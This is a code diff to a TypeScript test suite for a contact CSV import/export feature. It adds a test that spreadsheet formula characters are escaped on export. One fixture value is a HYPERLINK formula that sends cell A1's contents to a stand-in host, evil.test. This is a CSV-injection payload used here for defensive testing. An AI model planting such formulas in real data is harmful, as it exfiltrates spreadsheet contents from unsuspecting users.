@@ -3,6 +3,7 @@ import { randomUUID } from 'node:crypto';
 import { after, before, describe, test } from 'node:test';
 import type { Database } from '@partner-portal/db';
 import { parse } from 'csv-parse/sync';
+import { toSpreadsheetCell } from '../common/spreadsheet-cell.js';
 import { startTestApp, type TestApp } from '../testing/api-harness.js';
 import { createFixtureWorld, type FixtureWorld } from '../testing/fixture-world.js';
 
@@ -158,15 +159,15 @@ describe('contact CSV import and export (real PostgreSQL)', () => {
       stored.map((c) => ({
         id: c.id,
         email: c.email,
-        first_name: c.firstName ?? '',
-        last_name: c.lastName ?? '',
-        phone: c.phone ?? '',
-        company: c.company ?? '',
+        first_name: toSpreadsheetCell(c.firstName ?? ''),
+        last_name: toSpreadsheetCell(c.lastName ?? ''),
+        phone: toSpreadsheetCell(c.phone ?? ''),
+        company: toSpreadsheetCell(c.company ?? ''),
         status: c.status,
         created_at: c.createdAt.toISOString(),
       })),
     );
-    assert.ok(rows.some((r) => r.first_name === 'Quote "Q"' && r.company === 'Line\nBreak, Inc' && r.last_name === 'Läst'));
+    assert.ok(rows.some((r) => r.first_name === 'Quote "Q"' && r.company === 'Line\nBreak, Inc' && r.last_name === 'Läst' && r.phone === "'+1 555"));
     const audit = await db.auditEvent.findFirstOrThrow({ where: { accountId: account, action: 'contacts.exported' }, orderBy: { id: 'desc' } });
     assert.deepEqual(audit.data, { count: stored.length });
 
@@ -176,5 +177,42 @@ describe('contact CSV import and export (real PostgreSQL)', () => {
     assert.deepEqual(one.map((r) => r.id), stored.slice(0, 3).map((c) => c.id));
     assert.equal((await exportCsv('sbOwner', account, `?listId=${randomUUID()}`)).status, 404);
     assert.equal((await exportCsv('sbOwner', account, '?listId=nope')).status, 400);
+  });
+
+  test('export writes would-be formulas as text, and importing the export back changes nothing', async () => {
+    const account = world.account('directClient').id;
+    const tag = randomUUID().slice(0, 8);
+    const formula = '=HYPERLINK("http://evil.test/?"&A1,"Open")';
+    const csv = ['email,first_name,last_name,phone,company', `f-${tag}@example.test,"${formula.replaceAll('"', '""')}",@lead,+44 20,-Minus Co`, `p-${tag}@example.test,'=quoted,Plain,,`];
+    assert.equal((await importCsv('directOwner', account, csv.join('\n'))).body.created, 2);
+    const contacts = () => db.contact.findMany({ where: { accountId: account, email: { endsWith: `-${tag}@example.test` } }, orderBy: { email: 'asc' } });
+    const before = await contacts();
+    assert.deepEqual(
+      before.map((c) => [c.firstName, c.lastName, c.phone, c.company]),
+      [
+        [formula, '@lead', '+44 20', '-Minus Co'],
+        ['=quoted', 'Plain', null, null],
+      ],
+      'an apostrophe before a formula character is taken off on import',
+    );
+
+    const list = await db.contactList.create({ data: { accountId: account, name: `Formulas ${tag}` } });
+    await db.listMember.createMany({ data: before.map((c) => ({ accountId: account, listId: list.id, contactId: c.id })) });
+    const exported = (await exportCsv('directOwner', account, `?listId=${list.id}`)).body as string;
+    const rows = parse(exported, { columns: true }) as Record<string, string>[];
+    assert.deepEqual(
+      rows.map((r) => [r.first_name, r.last_name, r.phone, r.company]),
+      [
+        [`'${formula}`, "'@lead", "'+44 20", "'-Minus Co"],
+        ["'=quoted", 'Plain', '', ''],
+      ],
+    );
+    const reimported = await importCsv('directOwner', account, exported);
+    assert.deepEqual(
+      [reimported.body.created, reimported.body.updated, reimported.body.unchanged, reimported.body.skipped],
+      [0, 0, 2, 0],
+      JSON.stringify(reimported.body),
+    );
+    assert.deepEqual(await contacts(), before, 'the export imports as it was');
   });
 });
